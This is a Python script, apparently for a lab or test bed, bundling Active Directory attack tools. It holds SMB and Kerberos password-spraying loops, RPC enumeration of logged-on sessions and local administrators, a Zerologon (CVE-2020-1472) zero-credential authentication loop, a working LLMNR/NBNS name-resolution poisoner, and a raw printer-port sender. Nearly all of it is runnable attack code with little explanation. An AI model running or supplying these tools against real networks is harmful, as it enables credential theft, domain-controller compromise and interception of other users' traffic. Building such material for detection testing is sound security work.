#!/usr/bin/env python3
"""Small programs of the bed that speak one protocol: logons by the dozen, sessions asked for, Zerologon's shape, a poisoner and who asks it.

    talkers.py NAME ARGUMENT...
"""
import os
import socket
import struct
import sys
import threading
import time


def spray(server, domain, pause, *pairs):
    """One SMB logon for each USER:PASSWORD."""
    from impacket.smbconnection import SessionError, SMBConnection
    for pair in pairs:
        user, password = pair.split(":", 1)
        print(f"try {time.time():.6f} {user}", flush=True)
        c = SMBConnection(server, server, timeout=10)
        try:
            c.login(user, password, domain)
            print("in", user, flush=True)
            c.logoff()
        except SessionError:
            pass
        c.close()
        time.sleep(float(pause))


def tickets(kdc, realm, pause, *pairs):
    """One Kerberos ticket for each USER:PASSWORD."""
    from impacket.krb5 import constants
    from impacket.krb5.kerberosv5 import KerberosError, getKerberosTGT
    from impacket.krb5.types import Principal
    for pair in pairs:
        user, password = pair.split(":", 1)
        try:
            getKerberosTGT(Principal(user, type=constants.PrincipalNameType.NT_PRINCIPAL.value), password, realm, b"", b"", kdcHost=kdc)
            print("in", user, flush=True)
        except KerberosError:
            pass
        time.sleep(float(pause))


def sessions(domain, user, password, *servers):
    """Who is logged on where: NetrSessionEnum, NetrWkstaUserEnum and the local administrators of every host."""
    from impacket.dcerpc.v5 import samr, srvs, transport, wkst
    from impacket.dcerpc.v5.rpcrt import DCERPCException
    from impacket.smb3structs import SMB2_DIALECT_21
    for server in servers:
        for pipe, interface, ask in [("srvsvc", srvs.MSRPC_UUID_SRVS, lambda d: srvs.hNetrSessionEnum(d, "\x00", "\x00", 10)),
                                     ("wkssvc", wkst.MSRPC_UUID_WKST, lambda d: wkst.hNetrWkstaUserEnum(d, 1)),
                                     ("samr", samr.MSRPC_UUID_SAMR, administrators)]:
            try:
                t = transport.DCERPCTransportFactory(rf"ncacn_np:{server}[\pipe\{pipe}]")
                t.set_credentials(user, password, domain)
                t.preferred_dialect(SMB2_DIALECT_21)  # a collector on Windows does not encrypt its pipes either
                d = t.get_dce_rpc()
                d.connect()
                d.bind(interface)
                ask(d)
                d.disconnect()
            except (DCERPCException, Exception) as e:
                print(server, pipe, str(e)[:80], flush=True)


def administrators(d):
    from impacket.dcerpc.v5 import samr
    server = samr.hSamrConnect(d)["ServerHandle"]
    sid = samr.hSamrLookupDomainInSamServer(d, server, "Builtin")["DomainId"]
    domain = samr.hSamrOpenDomain(d, server, domainId=sid)["DomainHandle"]
    alias = samr.hSamrOpenAlias(d, domain, aliasId=544)["AliasHandle"]
    samr.hSamrGetMembersInAlias(d, alias)


def zerologon(server, name, tries):
    """CVE-2020-1472's shape: a client credential of zeros, until the server takes it by chance (a patched one never does)."""
    from impacket.dcerpc.v5 import epm, nrpc, transport
    from impacket.dcerpc.v5.rpcrt import DCERPCException
    binding = epm.hept_map(server, nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
    for n in range(int(tries)):
        if n % 100 == 0:
            d = transport.DCERPCTransportFactory(binding).get_dce_rpc()
            d.connect()
            d.bind(nrpc.MSRPC_UUID_NRPC)
        try:
            nrpc.hNetrServerReqChallenge(d, f"\\\\{name}\x00", f"{name}\x00", b"\x00" * 8)
            nrpc.hNetrServerAuthenticate3(d, f"\\\\{name}\x00", f"{name}$\x00", nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, f"{name}\x00",
                                          b"\x00" * 8, 0x212FFFFF)
            print("in", n)
            return
        except DCERPCException as e:
            if n == 0:
                print(str(e)[:100], flush=True)


def name_of(question):
    return question[1:1 + question[0]].decode(errors="replace")


def poison(own):
    """Answers every LLMNR and NBNS question with its own address."""
    address = socket.inet_aton(own)

    def llmnr():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("", 5355))
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("224.0.0.252") + address)
        while True:
            q, who = s.recvfrom(2048)
            if who[0] == own or q[2] & 0x80 or q[-4:-2] != b"\x00\x01":
                continue
            body = q[12:]
            answer = q[:2] + b"\x80\x00" + struct.pack(">HHHH", 1, 1, 0, 0) + body + body[:-4] + struct.pack(">HHIH", 1, 1, 30, 4) + address
            s.sendto(answer, who)

    def nbns():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("", 137))
        while True:
            q, who = s.recvfrom(2048)
            if who[0] == own or q[2] & 0x80 or q[46:48] != b"\x00\x20":
                continue
            answer = q[:2] + b"\x85\x00" + struct.pack(">HHHH", 0, 1, 0, 0) + q[12:46] + struct.pack(">HHIHH", 0x20, 1, 165, 6, 0) + address
            s.sendto(answer, who)

    for part in (llmnr, nbns):
        threading.Thread(target=part, daemon=True).start()
    time.sleep(600)


def ask(own, *names):
    """A workstation's question by LLMNR, twice for IPv4 and IPv6 as it does; prints the address answered."""
    for name in names:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((own, 0))
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
        s.settimeout(0.6)
        for kind in (1, 28):
            q = os.urandom(2) + struct.pack(">HHHHH", 0, 1, 0, 0, 0) + bytes([len(name)]) + name.encode() + b"\x00" + struct.pack(">HH", kind, 1)
            for _ in range(2):
                s.sendto(q, ("224.0.0.252", 5355))
                try:
                    answer, who = s.recvfrom(2048)
                    print(socket.inet_ntoa(answer[-4:]), flush=True)
                    break
                except TimeoutError:
                    pass


def printed(text, *printers):
    """One job to each printer's raw port."""
    for p in printers:
        with socket.create_connection((p, 9100), timeout=5) as s:
            s.sendall(text.encode() if not text.startswith("@") else open(text[1:], "rb").read())


if __name__ == "__main__":
    {f.__name__: f for f in (spray, tickets, sessions, zerologon, poison, ask, printed)}[sys.argv[1]](*sys.argv[2:])
